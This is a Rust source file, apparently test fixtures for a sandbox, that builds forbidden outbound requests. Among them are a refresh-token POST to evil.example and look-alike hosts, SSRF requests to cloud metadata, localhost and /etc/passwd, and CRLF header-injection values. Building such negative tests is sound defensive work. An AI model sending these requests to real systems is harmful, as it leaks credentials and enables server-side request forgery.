//! Requests that no host may send.

use crate::contract::{Action, Exchange, Failure, Header, Method, Purpose, Request};

/// URL to which requests are allowed in these parts.
const HOME: &str = "https://id.example/token";

pub(crate) fn act(part: &str, step: u64) -> Option<Result<Action, Failure>> {
    let to = |url: &str| request(url, Vec::new());
    let with = |name: &str, value: &str| {
        request(HOME, vec![Header { name: name.to_owned(), value: value.to_owned() }])
    };
    Some(Ok(match part {
        "the refresh token to another origin" => to("https://evil.example/collect"),
        "the refresh token to a look-alike" => to("https://id.example.evil.example/token"),
        "the refresh token behind an @" => to("https://id.example@evil.example/token"),
        "the refresh token to another port" => to("https://id.example:8443/token"),
        "the refresh token in clear text" => to("http://id.example/token"),
        "a request for a file" => to("file:///etc/passwd"),
        "a request to the cloud's metadata" => to("http://169.254.169.254/latest/meta-data/"),
        "the same over https" => to("https://169.254.169.254/latest/meta-data/"),
        "a request to a neighbour" => to("https://192.168.0.1/admin"),
        "a request to this machine" => to("http://127.0.0.1:22/"),
        "an address inside that the metadata names" if step == 0 => Action::Exchange(Exchange {
            purpose: Purpose::Metadata,
            wait_ms: 0,
            timeout_ms: None,
            remark: None,
            request: Request {
                method: Method::Get,
                url: "https://1.1.1.1/.well-known/openid-configuration".to_owned(),
                headers: Vec::new(),
                body: None,
            },
        }),
        "an address inside that the metadata names" => to("https://169.254.169.254/token"),
        "a request to no address" => to("token"),
        "a header with a line break in its value" => with("x-a", "b\r\nhost: evil.example"),
        "a header with a line break in its name" => with("x-a: b\r\nx-c", "d"),
        "a Host header" => with("Host", "evil.example"),
        "a Content-Length header" => with("content-length", "3"),
        "a Transfer-Encoding header" => with("Transfer-Encoding", "chunked"),
        "a Proxy-Authorization header" => with("proxy-authorization", "Basic YQ=="),
        "a Cookie header" => with("cookie", "session=a"),
        _ => return None,
    }))
}

fn request(url: &str, headers: Vec<Header>) -> Action {
    let request = Request {
        method: Method::Post,
        url: url.to_owned(),
        headers,
        body: Some(b"grant_type=refresh_token&refresh_token=secret".to_vec()),
    };
    Action::Exchange(Exchange {
        purpose: Purpose::Token,
        wait_ms: 0,
        timeout_ms: None,
        remark: None,
        request,
    })
}
